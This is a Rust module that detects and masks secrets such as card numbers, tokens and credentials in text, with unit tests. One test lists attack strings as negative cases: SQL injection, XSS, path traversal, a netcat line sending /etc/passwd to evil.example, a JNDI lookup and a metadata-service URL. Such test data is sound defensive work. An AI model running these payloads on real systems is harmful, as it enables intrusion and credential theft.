//! What looks like a secret, for whatever shows a name or a part of a value.
//!
//! A text is read as its reader has it in the end: with its escapes undone, however deep. In that, three things are secrets:
//! the number of a payment card, whatever stands between its groups; what has the form of a token; and what follows the name
//! of a secret, the scheme of a credential or the beginning of a URL with a user.
//!
//! # What this does not protect from
//!
//! A secret that looks like a word, under a name that does not tell or that comes behind it: nobody can see that it is one. What
//! is encrypted or compressed, or encoded otherwise than URLs, JSON, XML and base64 are.

mod card;
mod keyed;
mod name;
mod pair;
mod token;
mod undone;

use std::ops::Range;

use card::cards;
use keyed::{Reading, keyed, users};
use token::{shuffled, tokens};
use undone::Undone;

pub(crate) use name::is_secret_key;

/// Whether any part of the text looks like a secret by itself.
pub(crate) fn has_secret(text: &[u8]) -> bool {
    !secrets(text).is_empty()
}

/// Whether a value under this name is likely a secret, or looks like one by itself; of a name alone, with an empty value.
pub fn is_secret(name: &str, value: &str) -> bool {
    is_secret_key(name.as_bytes()) || has_secret(value.as_bytes())
}

/// The parts that look like secrets, in their order, and apart. Linear in the text.
pub(crate) fn secrets(text: &[u8]) -> Vec<Range<usize>> {
    let undone = Undone::of(text);
    let mut found = Vec::new();
    cards(undone.bytes(), &mut found);
    tokens(undone.bytes(), &mut found);
    keyed(&undone, Reading::Loose, &mut found);
    users(undone.bytes(), &mut found);
    found.iter_mut().for_each(|range| *range = undone.written(range));
    // A percent sign may stand for itself: `4111%1111%1111%1111`.
    if undone.is_changed() {
        cards(text, &mut found);
    }
    apart(found)
}

/// The values that the name of a secret introduces with `=` or `:` or as a tag, what follows the scheme of a credential, and
/// the user in a URL: what is a secret even where every other value is kept. In their order, and apart. Linear in the text.
#[cfg(feature = "evidence")]
pub(crate) fn keyed_secrets(text: &[u8]) -> Vec<Range<usize>> {
    let undone = Undone::of(text);
    let mut found = Vec::new();
    keyed(&undone, Reading::Strict, &mut found);
    users(undone.bytes(), &mut found);
    apart(found.iter().map(|range| undone.written(range)).collect())
}

/// What stands between the slashes of a path, and whether it is a part of a secret that is spread over several segments: the
/// number of a card, base64, or the user in a URL.
pub(crate) fn segments(path: &[u8]) -> impl Iterator<Item = (&[u8], bool)> {
    let mut spread = Vec::new();
    cards(path, &mut spread);
    shuffled(path, &mut spread);
    users(path, &mut spread);
    let mut end = 0;
    path.split(|&byte| byte == b'/').map(move |segment| {
        let start = end;
        end = start + segment.len() + 1;
        (segment, spread.iter().any(|secret| secret.start < end && start < secret.end))
    })
}

/// In their order, those that overlap as one.
fn apart(mut ranges: Vec<Range<usize>>) -> Vec<Range<usize>> {
    ranges.sort_by_key(|range| range.start);
    ranges.dedup_by(|next, last| {
        let joined = next.start < last.end;
        last.end = if joined { last.end.max(next.end) } else { last.end };
        joined
    });
    ranges
}

#[cfg(test)]
mod tests {
    use super::*;

    fn masked(text: &str, secrets: Vec<Range<usize>>) -> String {
        let mut shown = text.as_bytes().to_vec();
        for secret in secrets.into_iter().rev() {
            shown.splice(secret, *b"***");
        }
        String::from_utf8(shown).unwrap()
    }

    #[test]
    fn secrets_are_covered_however_they_are_written() {
        for (text, shown) in [
            ("4929%25204929%25204929%25204929' or", "***' or"),
            ("%34929%2E4929%2E4929%2E4929", "***"),
            ("４１１１１１１１１１１１１１１１' or", "***' or"),
            ("%EF%BC%94111 1111 1111 1111", "***"),
            ("&#52;111\\u00201111 1111 1111", "***"),
            ("4111%1111%1111%1111", "***"),
            ("q%3Dglpat-abcdefgh 1'", "*** 1'"),
            ("Bearer\nzbearnl 1'", "Bearer\n*** 1'"),
            ("Basic%09dXNlcjpw 1'", "Basic%09*** 1'"),
            ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0. c2ln'", "*** ***'"),
            ("postgres://bob:zuserpw1@db/x", "postgres://***@db/x"),
            ("app pass=zuakey9", "app pass=***"),
            ("sid=zcookval; 1'", "sid=***; 1'"),
            ("mysql --password hunter2; id", "mysql --password ***; id"),
            ("{\"password\": \"hunter two\", \"a\": 1}", "{\"password\": \"***\", \"a\": 1}"),
            ("{\"password\":{\"a\":[\"}zpw\"]},\"b\":1}", "{\"password\":***,\"b\":1}"),
            ("<input name='password' value='zpw'><script>", "<input name='password' value='***'><script>"),
            ("password = \"\"\"zpw\"\"\"", "password = \"\"\"***\"\"\""),
            (r"4929\n4929\n4929\n4929' or", "***' or"),
            ("Authorization: Token token=\"zpw\", nonce=\"x\"\nq", "Authorization: ***\nq"),
            ("x Digest username=\"bob\", response=\"zpw\"", "x Digest ***"),
            ("Cookie: a=1; a=zpw", "Cookie: ***"),
            ("Set-Cookie: a=\"1\"; a=zpw", "Set-Cookie: ***"),
            ("document.cookie='a=1; b=2'", "document.cookie='***'"),
            ("document.cookie=a=1; b=2", "document.cookie=***"),
            ("bearer \"zpw\"", "bearer \"***\""),
            ("bearer:zpw", "bearer:***"),
            ("password(zpw)", "password(***)"),
            ("curl -u bob:zpw http://x/", "curl -u *** http://x/"),
            ("curl --user 'bob:zpw'", "curl --user '***'"),
            ("//bob:zpw@host/", "//***@host/"),
            ("postgres://bob:a/zpw@host", "postgres://***@host"),
            ("password=hun'ter2zz", "password=***"),
            ("password=hun&ter2zz", "password=***"),
            ("password=hun;ter2zz", "password=***"),
            ("password=hun<ter2zz", "password=***"),
            ("password=hunter2' or 1=1", "password=***' or 1=1"),
            ("password=zpw\"><script>", "password=***\"><script>"),
            ("password<>'zpw'", "password<>'***'"),
            ("password != 'zpw'", "password != '***'"),
            ("password LIKE 'zpw'", "password LIKE '***'"),
            ("password=md5('zpw')", "password=***"),
            ("password=concat('a','zpw')", "password=***"),
            ("{\"key\":\"password\",\"val\":\"zpw\"}", "{\"key\":\"password\",\"val\":\"***\"}"),
            ("{\"value\":\"zpw\",\"name\":\"password\"}", "{\"value\":\"***\",\"name\":\"password\"}"),
            ("[\"password\", \"zpw\"]", "[\"password\", \"***\"]"),
            ("<field name=\"password\">zpw</field>", "<field name=\"password\">***</field>"),
            ("<key>password</key><string>zpw</string>", "<key>password</key><string>***</string>"),
            ("s:8:\"password\";s:3:\"zpw\";", "s:8:\"password\";s:3:\"***\";"),
            (r#"{"a":"b\npin=zpw"}"#, r#"{"a":"b\npin=***"}"#),
            ("{\\\"pin\\\":\\\"a\\\\\\\"b\\\"}", "{\\\"pin\\\":\\\"***\\\"}"),
        ] {
            assert_eq!(masked(text, secrets(text.as_bytes())), shown, "{text}");
        }
    }

    #[test]
    fn prose_and_attacks_are_no_secrets() {
        for text in [
            "1' union select name from users--",
            "1'/**/UNION/**/SELECT/**/1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16--",
            "1' union select password from users-- ",
            "1' and password or session where cookie union select token into x",
            "<script>alert(document.cookie)</script>",
            "' or '1'='1",
            "../../../../etc/passwd",
            "cat /etc/passwd | nc evil.example 4444",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.domain)>",
            "${jndi:ldap://evil.example:1389/a}",
            "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}",
            "http://169.254.169.254/latest/meta-data/",
            "the key of the pin is a pass",
            "see ftp://x/@y and mail a@b.org",
            "on 2026-11-24 at 14:10:00 version 1.2.3-rc.4 of 10.0.0.1:8080",
            "%",
            "\\",
            "",
        ] {
            assert_eq!(masked(text, secrets(text.as_bytes())), text);
        }
    }

    #[test]
    #[cfg(feature = "evidence")]
    fn what_a_name_introduces_is_covered_and_the_attack_is_not() {
        for (text, shown) in [
            ("user=a&password=hunter2&q=<script>", "user=a&password=***&q=<script>"),
            ("user[pass%77ord]=hunter%262&q=1", "user[pass%77ord]=***&q=1"),
            ("user[password][0]=a&q=1", "user[password][0]=***&q=1"),
            ("name=password&value=a&q=1", "name=password&value=***&q=1"),
            ("%7B%22password%22%3A%22hun%26ter%22%2C%22q%22", "%7B%22password%22%3A%22***%22%2C%22q%22"),
            (r#"{"password": "hun&ter, two", "a": 1}"#, r#"{"password": "***", "a": 1}"#),
            (r#"{"password": "hun\"ter", "a": 1}"#, r#"{"password": "***", "a": 1}"#),
            (r#"{\"token\":\"abc\"}"#, r#"{\"token\":\"***\"}"#),
            (r#"{"pass\u0077ord":"zpw","a":1}"#, r#"{"pass\u0077ord":"***","a":1}"#),
            (r#"{"name":"DB_PASSWORD","value":"zpw"}"#, r#"{"name":"DB_PASSWORD","value":"***"}"#),
            ("authorization: Bearer abc def\r\nq: 1", "authorization: ***\r\nq: 1"),
            ("Bearer abc' or 1=1", "Bearer ***' or 1=1"),
            ("Basic\tdXNlcjpw 1", "Basic\t*** 1"),
            ("name=\"pin\"\r\n\r\nzpw\r\n--b", "name=\"pin\"\r\n\r\n***\r\n--b"),
            ("1' union select password from users--", "1' union select password from users--"),
            ("where password='' or 1=1--", "where password='' or 1=1--"),
            ("4111 1111 1111 1111", "4111 1111 1111 1111"),
            ("<a:password x='1'>z<b>pw</b></a:password><q>1", "<a:password***</a:password><q>1"),
            ("<pin><![CDATA[a<b]]></pin>", "<pin>***</pin>"),
            ("<user password=\"zpw\"/>", "<user password=\"***\"/>"),
            ("<pin value=\"zpw\"/><q>1", "<pin***/><q>1"),
            ("password: >-\n  a\n  b\nq: 1", "password: >-***\nq: 1"),
            ("a:\n  password:\r\n    abc\r\nq: 1", "a:\n  password:\r***\nq: 1"),
            ("http://u:p@x/?q=1", "http://***@x/?q=1"),
            ("u=http%3A%2F%2Fu%3Ap%40x%2F", "u=http%3A%2F%2F***%40x%2F"),
            ("pass=a&sid=b&q=1", "pass=***&sid=***&q=1"),
            ("q=Cookie%3A%20a%3D1%3B%20b%3D2&q=1", "q=Cookie%3A%20***&q=1"),
            (
                r#"{"a":"Authorization: Token token=\"zpw\", nonce=\"x\"","q":"<script>"}"#,
                r#"{"a":"Authorization: ***","q":"<script>"}"#,
            ),
            ("auth=a&q=1", "auth=***&q=1"),
            ("value=a&name=password&q=1", "value=***&name=password&q=1"),
            ("password != 'zpw' or 1=1", "password != '***' or 1=1"),
            ("password=", "password="),
            ("password", "password"),
        ] {
            assert_eq!(masked(text, keyed_secrets(text.as_bytes())), shown, "{text}");
        }
    }
}
